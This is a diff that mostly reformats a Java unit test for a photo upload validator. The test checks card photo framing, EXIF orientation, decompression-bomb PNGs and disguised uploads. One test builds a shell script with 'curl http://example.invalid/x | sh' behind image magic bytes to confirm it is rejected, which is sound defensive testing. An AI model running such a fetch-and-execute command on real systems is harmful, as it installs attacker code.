@@ -41,7 +41,8 @@ class PhotoImagesTest {
 
     @ParameterizedTest(name = "{0}")
     @ValueSource(strings = {"jpeg", "png"})
-    @DisplayName("R-CARD-1: a JPEG or PNG photo is accepted and framed to exactly 300 × 375, a JPEG in sRGB without alpha or metadata")
+    @DisplayName(
+            "R-CARD-1: a JPEG or PNG photo is accepted and framed to exactly 300 × 375, a JPEG in sRGB without alpha or metadata")
     void normalPhoto(String format) {
         Upload upload = PhotoImages.check(encode(quadrants(1600, 1200), format));
 
@@ -190,8 +191,8 @@ class PhotoImagesTest {
         assertThat(upload.height()).isEqualTo(sideways ? 300 : 200);
         assertCorners(upload.image(), topLeft, topRight, bottomLeft, bottomRight);
         // a layout other than the JPEG reader's is turned by a copy
-        assertCorners(ExifOrientation.apply(quadrants(300, 200), orientation), topLeft, topRight, bottomLeft,
-                bottomRight);
+        assertCorners(
+                ExifOrientation.apply(quadrants(300, 200), orientation), topLeft, topRight, bottomLeft, bottomRight);
     }
 
     @Test
@@ -209,8 +210,8 @@ class PhotoImagesTest {
         assertColour(upload.image(), 190, 290, Color.BLACK);
     }
 
-    private static void assertCorners(BufferedImage image, String topLeft, String topRight, String bottomLeft,
-            String bottomRight) {
+    private static void assertCorners(
+            BufferedImage image, String topLeft, String topRight, String bottomLeft, String bottomRight) {
         int right = image.getWidth() - 10;
         int bottom = image.getHeight() - 10;
         assertColour(image, 10, 10, named(topLeft));
@@ -231,8 +232,9 @@ class PhotoImagesTest {
         long done = System.nanoTime();
 
         assertCardJpeg(framed);
-        System.out.printf("12 MP JPEG (%d KB): check %d ms, frame %d ms%n", jpeg.length / 1024,
-                (checked - start) / 1_000_000, (done - checked) / 1_000_000);
+        System.out.printf(
+                "12 MP JPEG (%d KB): check %d ms, frame %d ms%n",
+                jpeg.length / 1024, (checked - start) / 1_000_000, (done - checked) / 1_000_000);
     }
 
     // --- hostile uploads ---
@@ -259,8 +261,8 @@ class PhotoImagesTest {
     void scriptWithImageSignature() {
         byte[] script = "#!/bin/sh\ncurl http://example.invalid/x | sh\n".getBytes(StandardCharsets.US_ASCII);
 
-        assertRejected(concat(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'}, script),
-                Reason.NOT_AN_IMAGE);
+        assertRejected(
+                concat(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'}, script), Reason.NOT_AN_IMAGE);
         assertRejected(concat(new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF}, script), Reason.NOT_AN_IMAGE);
         assertRejected(script, Reason.NOT_AN_IMAGE);
     }
@@ -273,7 +275,8 @@ class PhotoImagesTest {
     }
 
     @Test
-    @DisplayName("R-CARD-1: a PNG declaring 50,000 × 50,000 (a decompression bomb) is refused from its header, without decoding")
+    @DisplayName(
+            "R-CARD-1: a PNG declaring 50,000 × 50,000 (a decompression bomb) is refused from its header, without decoding")
     void pngBomb() {
         // decoding would take 10 GB; a tiny IDAT: were it decoded, it would fail as UNREADABLE, not TOO_MANY_PIXELS
         assertRejected(png(50_000, 50_000, 8, 2), Reason.TOO_MANY_PIXELS);
@@ -286,7 +289,8 @@ class PhotoImagesTest {
     }
 
     @Test
-    @DisplayName("R-CARD-1: a 16-bit RGBA PNG whose decoding would take over 160 MB is refused, even below 40 megapixels")
+    @DisplayName(
+            "R-CARD-1: a 16-bit RGBA PNG whose decoding would take over 160 MB is refused, even below 40 megapixels")
     void tooMuchMemory() {
         assertRejected(png(5_000, 5_000, 16, 6), Reason.TOO_MANY_PIXELS); // 25 MP × 8 bytes
     }
@@ -326,22 +330,30 @@ class PhotoImagesTest {
         assertRejected(encode(quadrants(100, 100), "png"), Reason.TOO_SMALL);
         assertRejected(encode(quadrants(100, 100), "jpeg"), Reason.TOO_SMALL);
         assertRejected(encode(quadrants(200, 149), "jpeg"), Reason.TOO_SMALL);
-        assertThat(PhotoImages.check(encode(quadrants(120, 150), "png")).width()).isEqualTo(120);
+        assertThat(PhotoImages.check(encode(quadrants(120, 150), "png")).width())
+                .isEqualTo(120);
     }
 
     @Test
     @DisplayName("R-CARD-1: each reason is the key of a translated message")
     void messageKeys() {
-        assertThat(Arrays.stream(Reason.values()).map(Reason::key)).containsExactly("photo.rejected.empty",
-                "photo.rejected.too-large-file", "photo.rejected.not-an-image", "photo.rejected.unreadable",
-                "photo.rejected.too-many-pixels", "photo.rejected.too-small");
+        assertThat(Arrays.stream(Reason.values()).map(Reason::key))
+                .containsExactly(
+                        "photo.rejected.empty",
+                        "photo.rejected.too-large-file",
+                        "photo.rejected.not-an-image",
+                        "photo.rejected.unreadable",
+                        "photo.rejected.too-many-pixels",
+                        "photo.rejected.too-small");
     }
 
     // --- helpers ---
 
     private static void assertRejected(byte[] bytes, Reason reason) {
-        assertThatThrownBy(() -> PhotoImages.check(bytes)).isInstanceOfSatisfying(PhotoRejectedException.class,
-                e -> assertThat(e.reason()).isEqualTo(reason));
+        assertThatThrownBy(() -> PhotoImages.check(bytes))
+                .isInstanceOfSatisfying(
+                        PhotoRejectedException.class,
+                        e -> assertThat(e.reason()).isEqualTo(reason));
     }
 
     private static void assertCardJpeg(byte[] framed) {
@@ -351,14 +363,18 @@ class PhotoImagesTest {
         assertThat(card.getHeight()).isEqualTo(CardPhoto.HEIGHT);
         assertThat(card.getColorModel().hasAlpha()).isFalse();
         assertThat(card.getColorModel().getColorSpace().isCS_sRGB()).isTrue();
-        assertThat(segments(framed)).as("markers before the pixels").allMatch(marker -> marker < 0xE1 || marker > 0xEF)
+        assertThat(segments(framed))
+                .as("markers before the pixels")
+                .allMatch(marker -> marker < 0xE1 || marker > 0xEF)
                 .doesNotContain(0xFE); // no EXIF, ICC profile or comment: at most JFIF's APP0
     }
 
     private static void assertColour(BufferedImage image, int x, int y, Color expected) {
         var actual = new Color(image.getRGB(x, y));
-        assertThat(Math.abs(actual.getRed() - expected.getRed()) + Math.abs(actual.getGreen() - expected.getGreen())
-                + Math.abs(actual.getBlue() - expected.getBlue())).as("(%d, %d) is %s, expected %s", x, y, actual, expected)
+        assertThat(Math.abs(actual.getRed() - expected.getRed())
+                        + Math.abs(actual.getGreen() - expected.getGreen())
+                        + Math.abs(actual.getBlue() - expected.getBlue()))
+                .as("(%d, %d) is %s, expected %s", x, y, actual, expected)
                 .isLessThan(60);
     }
 
@@ -376,8 +392,10 @@ class PhotoImagesTest {
         int count = 0;
         for (int x = 0; x < image.getWidth(); x++) {
             var actual = new Color(image.getRGB(x, y));
-            if (Math.abs(actual.getRed() - colour.getRed()) + Math.abs(actual.getGreen() - colour.getGreen())
-                    + Math.abs(actual.getBlue() - colour.getBlue()) < 60) {
+            if (Math.abs(actual.getRed() - colour.getRed())
+                            + Math.abs(actual.getGreen() - colour.getGreen())
+                            + Math.abs(actual.getBlue() - colour.getBlue())
+                    < 60) {
                 count++;
             }
         }
@@ -401,8 +419,14 @@ class PhotoImagesTest {
         for (int y = 0; y < height; y++) {
             for (int x = 0; x < width; x++) {
                 int n = random.nextInt(24);
-                image.setRGB(x, y, new Color((x * 200 / width + n) & 0xFF, (y * 200 / height + n) & 0xFF,
-                        ((x + y) % 256 / 2 + n) & 0xFF).getRGB());
+                image.setRGB(
+                        x,
+                        y,
+                        new Color(
+                                        (x * 200 / width + n) & 0xFF,
+                                        (y * 200 / height + n) & 0xFF,
+                                        ((x + y) % 256 / 2 + n) & 0xFF)
+                                .getRGB());
             }
         }
         Graphics2D g = image.createGraphics();
@@ -422,7 +446,9 @@ class PhotoImagesTest {
     private static byte[] encode(BufferedImage image, String format) {
         var out = new ByteArrayOutputStream();
         try {
-            assertThat(ImageIO.write(image, format, out)).as("a %s writer", format).isTrue();
+            assertThat(ImageIO.write(image, format, out))
+                    .as("a %s writer", format)
+                    .isTrue();
         } catch (IOException e) {
             throw new UncheckedIOException(e);
         }
@@ -452,8 +478,18 @@ class PhotoImagesTest {
     private static byte[] png(int width, int height, int bitDepth, int colourType) {
         var out = new ByteArrayOutputStream();
         out.writeBytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'});
-        chunk(out, "IHDR", ByteBuffer.allocate(13).putInt(width).putInt(height).put((byte) bitDepth)
-                .put((byte) colourType).put((byte) 0).put((byte) 0).put((byte) 0).array());
+        chunk(
+                out,
+                "IHDR",
+                ByteBuffer.allocate(13)
+                        .putInt(width)
+                        .putInt(height)
+                        .put((byte) bitDepth)
+                        .put((byte) colourType)
+                        .put((byte) 0)
+                        .put((byte) 0)
+                        .put((byte) 0)
+                        .array());
         var deflater = new Deflater();
         deflater.setInput(new byte[64]);
         deflater.finish();
@@ -501,11 +537,18 @@ class PhotoImagesTest {
     private static byte[] withExifOrientation(byte[] jpeg, int orientation, boolean littleEndian) {
         int app0Length = (jpeg[4] & 0xFF) << 8 | jpeg[5] & 0xFF;
         assertThat(jpeg[3] & 0xFF).isEqualTo(0xE0);
-        var tiff = ByteBuffer.allocate(26).order(littleEndian ? java.nio.ByteOrder.LITTLE_ENDIAN
-                : java.nio.ByteOrder.BIG_ENDIAN);
-        tiff.put(littleEndian ? (byte) 'I' : (byte) 'M').put(littleEndian ? (byte) 'I' : (byte) 'M').putShort((short) 42)
-                .putInt(8).putShort((short) 1) // IFD0 at 8, one entry
-                .putShort((short) 0x0112).putShort((short) 3).putInt(1).putShort((short) orientation).putShort((short) 0)
+        var tiff = ByteBuffer.allocate(26)
+                .order(littleEndian ? java.nio.ByteOrder.LITTLE_ENDIAN : java.nio.ByteOrder.BIG_ENDIAN);
+        tiff.put(littleEndian ? (byte) 'I' : (byte) 'M')
+                .put(littleEndian ? (byte) 'I' : (byte) 'M')
+                .putShort((short) 42)
+                .putInt(8)
+                .putShort((short) 1) // IFD0 at 8, one entry
+                .putShort((short) 0x0112)
+                .putShort((short) 3)
+                .putInt(1)
+                .putShort((short) orientation)
+                .putShort((short) 0)
                 .putInt(0); // no next IFD
         var out = new ByteArrayOutputStream();
         out.writeBytes(new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE1});
